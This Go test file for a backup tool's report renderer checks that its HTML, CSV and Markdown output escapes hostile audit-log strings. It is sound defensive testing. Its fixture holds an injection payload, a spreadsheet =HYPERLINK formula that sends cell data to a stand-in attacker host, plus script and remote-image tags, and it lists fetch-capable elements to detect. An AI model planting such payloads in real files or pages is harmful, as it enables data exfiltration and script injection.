package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/safekeep-dev/safekeep/audit"
	"github.com/safekeep-dev/safekeep/report"
	"github.com/safekeep-dev/safekeep/report/reporttest"
)

func render(t *testing.T, r *report.Report, f report.Format) string {
	t.Helper()
	var buf bytes.Buffer
	if err := report.Render(&buf, r, f); err != nil {
		t.Fatalf("render %s: %v", f, err)
	}
	return buf.String()
}

// hostile is a report whose every bucket-supplied string tries to break
// out of its context.
func hostile(t *testing.T) *report.Report {
	t.Helper()
	evil := `=HYPERLINK("http://evil.example/?x="&A1)</td></tr><script>alert(1)</script><img src="http://evil.example/x.png"> | *x* [l](http://evil.example) ` + "\n# h"
	mk := func(seq uint64, kind audit.Kind, d any) audit.Entry {
		raw, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		return audit.Entry{Seq: seq, Time: reporttest.Start.Add(time.Duration(seq) * time.Hour), Actor: "@" + evil, Kind: kind, Subject: "-" + evil, Details: raw}
	}
	return report.FromEntries([]audit.Entry{
		mk(1, audit.KindSeal, audit.SealDetails{Schedule: evil, Backup: "+" + evil, SealDigest: evil, Recipients: []string{evil},
			Volumes: &audit.VolumeCounts{NotCovered: map[string]int{evil: 1}}}),
		mk(2, audit.KindDrill, audit.DrillDetails{Namespace: evil, Drill: evil, Run: evil, Passed: false, RTOSeconds: 5,
			Checks: []audit.CheckResult{{Name: evil, Message: evil, Objects: []string{evil}}}}),
		mk(3, audit.KindRestore, audit.RestoreDetails{User: evil, Host: evil, Destination: evil, Schedule: evil, Backup: evil}),
		mk(4, audit.KindFailure, audit.FailureDetails{Operation: evil, Reason: evil, Message: evil}),
		mk(5, audit.KindTargetChange, audit.TargetDetails{Target: evil, Change: evil, Endpoint: evil, Fields: []string{evil}}),
		mk(6, audit.KindRetentionDelete, audit.DeleteDetails{Schedule: evil, Backup: evil, Reason: evil}),
		mk(7, audit.Kind(evil), nil),
	}, report.Options{Now: reporttest.Start.AddDate(0, 0, 1), Target: evil})
}

func TestHTMLEscapesAndLoadsNothing(t *testing.T) {
	for name, r := range map[string]*report.Report{"sample": sample(t), "hostile": hostile(t)} {
		t.Run(name, func(t *testing.T) {
			out := render(t, r, report.FormatHTML)
			checkNoFetch(t, out)
			if !strings.Contains(out, `Content-Security-Policy" content="default-src 'none'`) {
				t.Error("no Content-Security-Policy forbidding fetches")
			}
		})
	}
}

// checkNoFetch tokenizes an HTML page and fails on anything that could
// load something: a script, image, frame, object, stylesheet link, a src
// attribute, a link that is not an in-page anchor, or a CSS url() or
// @import.
func checkNoFetch(t *testing.T, page string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	inStyle := false
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			return
		case html.TextToken:
			if css := strings.ToLower(string(z.Text())); inStyle && (strings.Contains(css, "url(") || strings.Contains(css, "@import")) {
				t.Errorf("stylesheet loads something: %s", css)
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			inStyle = tok.Data == "style"
			switch tok.Data {
			case "script", "img", "link", "iframe", "frame", "object", "embed", "audio", "video", "source", "image", "use", "base", "form":
				t.Errorf("element <%s> in the page", tok.Data)
			}
			for _, a := range tok.Attr {
				v := strings.ToLower(a.Val)
				switch {
				case a.Key == "src" || a.Key == "srcset" || a.Key == "xlink:href" || a.Key == "background":
					t.Errorf("<%s %s=%q>", tok.Data, a.Key, a.Val)
				case a.Key == "href" && !strings.HasPrefix(a.Val, "#"):
					t.Errorf("<%s href=%q>: only in-page anchors", tok.Data, a.Val)
				case a.Key == "style" && strings.Contains(v, "url("):
					t.Errorf("<%s style=%q>", tok.Data, a.Val)
				case strings.HasPrefix(a.Key, "on"):
					t.Errorf("<%s %s=...>: an event handler", tok.Data, a.Key)
				}
			}
		case html.EndTagToken:
			inStyle = false
		}
	}
}

func TestCSV(t *testing.T) {
	for name, r := range map[string]*report.Report{"sample": sample(t), "hostile": hostile(t)} {
		t.Run(name, func(t *testing.T) {
			rows, err := csv.NewReader(strings.NewReader(render(t, r, report.FormatCSV))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(rows[0], report.CSVHeader) {
				t.Errorf("header %v", rows[0])
			}
			if got, want := len(rows)-1, len(r.Events()); got != want {
				t.Errorf("%d rows, want one per event (%d)", got, want)
			}
			for _, row := range rows[1:] {
				if len(row) != len(report.CSVHeader) {
					t.Fatalf("row %v has %d cells", row, len(row))
				}
				for _, c := range row {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("cell %q would be read as a formula", c)
					}
				}
			}
		})
	}
	rows, _ := csv.NewReader(strings.NewReader(render(t, sample(t), report.FormatCSV))).ReadAll()
	kinds := map[string]int{}
	for _, row := range rows[1:] {
		kinds[row[2]+"/"+row[5]]++
	}
	want := map[string]int{"seal/sealed": reporttest.Sealed, "drill/passed": reporttest.DrillPassed, "drill/failed": reporttest.DrillFailed,
		"restore/passed": reporttest.Restores, "retention-delete/deleted": reporttest.Deletions, "target-change/created": 1,
		"target-change/updated": 1, "failure/failed": reporttest.Failures}
	for k, n := range want {
		if kinds[k] != n {
			t.Errorf("%s rows %d, want %d (all: %v)", k, kinds[k], n, kinds)
		}
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "plain": "plain", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x",
	} {
		if got := report.SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMarkdownTables(t *testing.T) {
	for name, r := range map[string]*report.Report{"sample": sample(t), "hostile": hostile(t)} {
		t.Run(name, func(t *testing.T) {
			out := render(t, r, report.FormatMarkdown)
			if strings.Contains(out, "<script") || regexp.MustCompile(`[^\\]\]\(`).MatchString(out) {
				t.Error("Markdown lets markup or a link through")
			}
			for _, line := range strings.Split(out, "\n") {
				if !strings.HasPrefix(line, "|") {
					continue
				}
				cells := len(regexp.MustCompile(`(^|[^\\])\|`).FindAllString(line, -1))
				if !strings.HasSuffix(line, "|") || cells < 2 {
					t.Errorf("broken table row: %q", line)
				}
			}
		})
	}
	out := render(t, sample(t), report.FormatMarkdown)
	for _, want := range []string{"| clinic | nightly | 14 | 13 | 1 | 2 |", "| clinic | daily-restore | 14 | 12 | 2 | 86% |",
		"1 objects named in the drill's status", "164.312(c)(2)", "supports, and does not prove, compliance"} {
		if !strings.Contains(out, want) {
			t.Errorf("Markdown lacks %q", want)
		}
	}
}

func TestJSONFields(t *testing.T) {
	var doc map[string]any
	if err := json.Unmarshal([]byte(render(t, sample(t), report.FormatJSON)), &doc); err != nil {
		t.Fatal(err)
	}
	want := []string{"format", "generatedAt", "until", "target", "schedules", "drills", "restores", "retentionDeletions",
		"targetChanges", "failures", "integrity", "hipaa"}
	for _, k := range want {
		if _, ok := doc[k]; !ok {
			t.Errorf("JSON lacks %q", k)
		}
	}
	if doc["format"] != report.FormatV1 {
		t.Errorf("format %v", doc["format"])
	}
	s := doc["schedules"].([]any)[0].(map[string]any)
	for _, k := range []string{"name", "backupsTaken", "backupsSealed", "backupsFailed", "failedAttempts", "lastSealed",
		"sealedBytes", "offsiteBackups", "offsiteBytes", "recipients", "backups"} {
		if _, ok := s[k]; !ok {
			t.Errorf("schedule lacks %q", k)
		}
	}
	d := doc["drills"].([]any)[0].(map[string]any)
	for _, k := range []string{"runs", "passed", "failed", "passRate", "lastRun", "lastPass", "maxRTOSeconds", "overObjective", "runList", "days"} {
		if _, ok := d[k]; !ok {
			t.Errorf("drill lacks %q", k)
		}
	}
	var back report.Report
	if err := json.Unmarshal([]byte(render(t, sample(t), report.FormatJSON)), &back); err != nil || back.Drills[0].Runs != reporttest.DrillRuns {
		t.Errorf("JSON does not read back: %v", err)
	}
}

func TestParseFormat(t *testing.T) {
	for in, want := range map[string]report.Format{"html": report.FormatHTML, "MD": report.FormatMarkdown, "markdown": report.FormatMarkdown,
		"csv": report.FormatCSV, "json": report.FormatJSON} {
		if got, err := report.ParseFormat(in); err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v", in, got, err)
		}
	}
	if _, err := report.ParseFormat("pdf"); err == nil {
		t.Error("ParseFormat(pdf) succeeded")
	}
}

func FuzzReport(f *testing.F) {
	f.Add("seal", []byte(`{"schedule":"s","backup":"b","recipients":["x"]}`), "subj")
	f.Add("drill", []byte(`{"drill":"d","passed":false,"rtoSeconds":1e308,"maxRTOSeconds":-1,"checks":[{"name":"c"}]}`), "")
	f.Add("restore", []byte(`{"namespaceMapping":{"a":"b"}}`), "<x>")
	f.Fuzz(func(t *testing.T, kind string, details []byte, subject string) {
		e := audit.Entry{Seq: 1, Time: reporttest.Start, Actor: "a", Kind: audit.Kind(kind), Subject: subject, Details: details}
		r := report.FromEntries([]audit.Entry{e}, report.Options{Now: reporttest.Start.Add(time.Hour)})
		for _, f := range report.Formats {
			var buf bytes.Buffer
			if err := report.Render(&buf, r, f); err != nil {
				t.Fatalf("render %s: %v", f, err)
			}
		}
	})
}

// TestRestoreColumns: the HTML and Markdown reports show an incident
// restore's namespace mapping and staging location, as the JSON does.
func TestRestoreColumns(t *testing.T) {
	mapped := reporttest.Namespace + " → " + reporttest.Namespace + "-restored"
	page := render(t, sample(t), report.FormatHTML)
	for _, want := range []string{`<td class="mono mapping">` + mapped + `</td>`, `<td class="mono staging">incident-staging</td>`, "<th>Staging location</th>"} {
		if !strings.Contains(page, want) {
			t.Errorf("HTML lacks %q", want)
		}
	}
	md := render(t, sample(t), report.FormatMarkdown)
	if !strings.Contains(md, "| "+mapped+" | incident-staging |") {
		t.Errorf("Markdown restore row lacks the mapping and staging location")
	}
}

// TestDrillVolumes: a drill run's Level 1 volume check (from its audit
// entry: counts and digests) is in the JSON, the Markdown, the HTML and
// the CSV.
func TestDrillVolumes(t *testing.T) {
	det := audit.DrillDetails{Drill: "daily-restore", Run: "r1", Schedule: "nightly", Backup: "b1", Passed: false,
		FinishedAt: reporttest.Start.Add(time.Hour),
		Checks:     []audit.CheckResult{{Name: "volumes", Message: "1 of 2 volumes failed (damaged); 3 files, 1048576 bytes verified"}},
		Volumes: []audit.VolumeCheck{{Volume: "sha256:" + strings.Repeat("a", 64), Files: 3, Bytes: 1 << 20, Passed: true,
			Restored: &audit.VolumeRestored{Files: 3, Bytes: 1 << 20, MatchedFiles: 2, MatchedBytes: 1 << 19, Reason: "Differs"}},
			{Volume: "sha256:" + strings.Repeat("b", 64), Passed: false}}}
	raw, err := json.Marshal(det)
	if err != nil {
		t.Fatal(err)
	}
	e := audit.Entry{Seq: 1, Time: reporttest.Start.Add(time.Hour), Actor: "controller", Kind: audit.KindDrill, Subject: "ns/daily-restore/r1", Details: raw}
	r := report.FromEntries([]audit.Entry{e}, report.Options{Now: reporttest.Start.Add(2 * time.Hour)})
	const summary = "2 volumes, 1 failed; 3 files, 1.0 MiB verified"
	const restored = "1 volume, 1 failed (Differs); 3 files, 1.0 MiB restored, 2 files, 512.0 KiB match the snapshots"

	var back report.Report
	if err := json.Unmarshal([]byte(render(t, r, report.FormatJSON)), &back); err != nil {
		t.Fatal(err)
	}
	got := back.Drills[0].RunList[0].Volumes
	if len(got) != 2 || got[0].Files != 3 || got[0].Bytes != 1<<20 || got[1].Passed || got[1].Restored != nil {
		t.Fatalf("JSON volumes %+v", got)
	}
	if r := got[0].Restored; r == nil || *r != *det.Volumes[0].Restored {
		t.Errorf("JSON restored volume %+v, want %+v", r, det.Volumes[0].Restored)
	}
	if md := render(t, r, report.FormatMarkdown); !strings.Contains(md, "| Volumes verified | Volumes restored |") || !strings.Contains(md, "| "+summary+" | "+restored+" |") {
		t.Errorf("Markdown lacks the volumes columns or %q, %q:\n%s", summary, restored, md)
	}
	if page := render(t, r, report.FormatHTML); !strings.Contains(page, `<td class="drill-volumes">`+summary+`</td><td class="drill-restored">`+restored+`</td>`) {
		t.Errorf("HTML lacks the volumes cells %q, %q", summary, restored)
	}
	if csv := render(t, r, report.FormatCSV); !strings.Contains(csv, "volumes="+summary) || !strings.Contains(csv, "restoredVolumes="+restored) {
		t.Errorf("CSV lacks the volumes: %s", csv)
	}
}

// TestDrillVolumesBeforeLevel2: an entry written before Level 2 was
// recorded (no "restored") reads and renders with an empty Volumes
// restored cell.
func TestDrillVolumesBeforeLevel2(t *testing.T) {
	raw := []byte(`{"drill":"d","run":"r0","schedule":"nightly","backup":"b0","passed":true,"startedAt":"2026-01-01T00:00:00Z",` +
		`"finishedAt":"2026-01-01T00:01:00Z","rtoSeconds":1,"checks":[],"volumes":[{"volume":"sha256:` + strings.Repeat("c", 64) + `","files":2,"bytes":10,"passed":true}]}`)
	e := audit.Entry{Seq: 1, Time: reporttest.Start.Add(time.Hour), Actor: "controller", Kind: audit.KindDrill, Subject: "ns/d/r0", Details: raw}
	r := report.FromEntries([]audit.Entry{e}, report.Options{Now: reporttest.Start.Add(2 * time.Hour)})
	if page := render(t, r, report.FormatHTML); !strings.Contains(page, `<td class="drill-volumes">1 volume; 2 files, 10 B verified</td><td class="drill-restored"></td>`) {
		t.Errorf("HTML of an entry without Level 2 lacks its cells")
	}
	if csv := render(t, r, report.FormatCSV); strings.Contains(csv, "restoredVolumes=") {
		t.Errorf("CSV of an entry without Level 2 names restored volumes: %s", csv)
	}
}

// TestDrillVolumesLevel1Skipped: a run that skipped Level 1 but ran Level
// 2 says its volumes were not verified and why, in the JSON, the
// Markdown, the HTML and the CSV, never "0 files verified"; so does an
// entry written before volumes[].notVerified was recorded, whose
// "volumes" check says "not requested".
func TestDrillVolumesLevel1Skipped(t *testing.T) {
	restored := &audit.VolumeRestored{Files: 2, Bytes: 10, MatchedFiles: 2, MatchedBytes: 10, Passed: true}
	marked := audit.DrillDetails{Drill: "d", Run: "r1", Schedule: "nightly", Backup: "b1", Passed: true, FinishedAt: reporttest.Start.Add(time.Hour),
		Checks: []audit.CheckResult{{Name: "volumes", Passed: true, Message: "not requested: 1 sealed volume not read"}},
		Volumes: []audit.VolumeCheck{{Volume: "sha256:" + strings.Repeat("a", 64), Passed: true, NotVerified: audit.VolumeNotVerifiedSkipped,
			Restored: restored}}}
	older := marked
	older.Run, older.FinishedAt = "r0", reporttest.Start.Add(30*time.Minute)
	older.Volumes = []audit.VolumeCheck{{Volume: "sha256:" + strings.Repeat("a", 64), Passed: true, Restored: restored}}
	var entries []audit.Entry
	for i, d := range []audit.DrillDetails{older, marked} {
		raw, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		entries = append(entries, audit.Entry{Seq: uint64(i + 1), Time: d.FinishedAt, Actor: "controller", Kind: audit.KindDrill, Subject: "ns/d/" + d.Run, Details: raw})
	}
	r := report.FromEntries(entries, report.Options{Now: reporttest.Start.Add(2 * time.Hour)})
	const summary = "1 volume not verified (Level 1 skipped by the drill's checks)"
	const level2 = "1 volume; 2 files, 10 B restored, 2 files, 10 B match the snapshots"

	var back report.Report
	if err := json.Unmarshal([]byte(render(t, r, report.FormatJSON)), &back); err != nil {
		t.Fatal(err)
	}
	for _, run := range back.Drills[0].RunList {
		if len(run.Volumes) != 1 || run.Volumes[0].NotVerified != audit.VolumeNotVerifiedSkipped || run.Volumes[0].Restored == nil {
			t.Errorf("JSON volumes of run %s: %+v, want notVerified %q", run.Run, run.Volumes, audit.VolumeNotVerifiedSkipped)
		}
	}
	md := render(t, r, report.FormatMarkdown)
	page := render(t, r, report.FormatHTML)
	csv := render(t, r, report.FormatCSV)
	for format, doc := range map[string]string{"Markdown": md, "HTML": page, "CSV": csv} {
		if strings.Contains(doc, "0 files") {
			t.Errorf("%s says 0 files of a volume Level 1 did not read", format)
		}
	}
	if n := strings.Count(md, "| "+summary+" | "+level2+" |"); n != 2 {
		t.Errorf("Markdown has %d rows with %q, %q, want 2:\n%s", n, summary, level2, md)
	}
	if n := strings.Count(page, `<td class="drill-volumes">`+strings.ReplaceAll(summary, "'", "&#39;")+`</td><td class="drill-restored">`+level2+`</td>`); n != 2 {
		t.Errorf("HTML has %d rows with the volumes cells %q, %q, want 2", n, summary, level2)
	}
	if n := strings.Count(csv, "volumes="+summary); n != 2 {
		t.Errorf("CSV has %d rows with volumes=%s, want 2: %s", n, summary, csv)
	}
}

// TestRestoreVolumes: an incident restore's entry that read the restored
// volumes (restore --volume-reader-image) shows what Velero restored and
// how much matched the snapshots, as a drill run does, in the JSON, the
// Markdown, the HTML and the CSV; one without shows nothing.
func TestRestoreVolumes(t *testing.T) {
	det := audit.RestoreDetails{Schedule: "nightly", Backup: "b1", User: "alice", Host: "laptop", Destination: "cluster:prod",
		NamespaceMapping: map[string]string{"phi": "phi"}, StagingLocation: "incident-staging",
		Volumes: []audit.VolumeCheck{{Volume: "sha256:" + strings.Repeat("a", 64), NotVerified: audit.VolumeNotVerifiedSkipped,
			Restored: &audit.VolumeRestored{Files: 3, Bytes: 1 << 20, MatchedFiles: 2, MatchedBytes: 1 << 19, Reason: "Differs"}},
			{Volume: "sha256:" + strings.Repeat("b", 64), NotVerified: audit.VolumeNotVerifiedSkipped, Passed: true,
				Restored: &audit.VolumeRestored{Files: 1, Bytes: 10, MatchedFiles: 1, MatchedBytes: 10, Passed: true}}}}
	without := det
	without.Backup, without.Volumes = "b0", nil
	var entries []audit.Entry
	for i, d := range []audit.RestoreDetails{without, det} {
		raw, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		entries = append(entries, audit.Entry{Seq: uint64(i + 1), Time: reporttest.Start.Add(time.Duration(i+1) * time.Minute), Actor: "alice@laptop",
			Kind: audit.KindRestore, Subject: "nightly/" + d.Backup, Details: raw})
	}
	r := report.FromEntries(entries, report.Options{Now: reporttest.Start.Add(time.Hour)})
	const restored = "2 volumes, 1 failed (Differs); 4 files, 1.0 MiB restored, 3 files, 512.0 KiB match the snapshots"

	var back report.Report
	if err := json.Unmarshal([]byte(render(t, r, report.FormatJSON)), &back); err != nil {
		t.Fatal(err)
	}
	if len(back.Restores) != 2 || len(back.Restores[0].Volumes) != 0 || len(back.Restores[1].Volumes) != 2 ||
		*back.Restores[1].Volumes[0].Restored != *det.Volumes[0].Restored {
		t.Errorf("JSON restores %+v, want the second with its volumes", back.Restores)
	}
	if md := render(t, r, report.FormatMarkdown); !strings.Contains(md, "| Result | Volumes restored | Failed checks |") ||
		!strings.Contains(md, "| failed | "+restored+" |") || !strings.Contains(md, "| failed |  |") {
		t.Errorf("Markdown lacks the restores' volumes %q:\n%s", restored, md)
	}
	page := render(t, r, report.FormatHTML)
	if !strings.Contains(page, `<td class="restore-volumes">`+restored+`</td>`) || !strings.Contains(page, `<td class="restore-volumes"></td>`) {
		t.Errorf("HTML lacks the restores' volumes cells %q", restored)
	}
	if csv := render(t, r, report.FormatCSV); strings.Count(csv, "restoredVolumes=") != 1 || !strings.Contains(csv, "restoredVolumes="+restored) {
		t.Errorf("CSV lacks the restore's volumes, or names them for the restore without: %s", csv)
	}
}
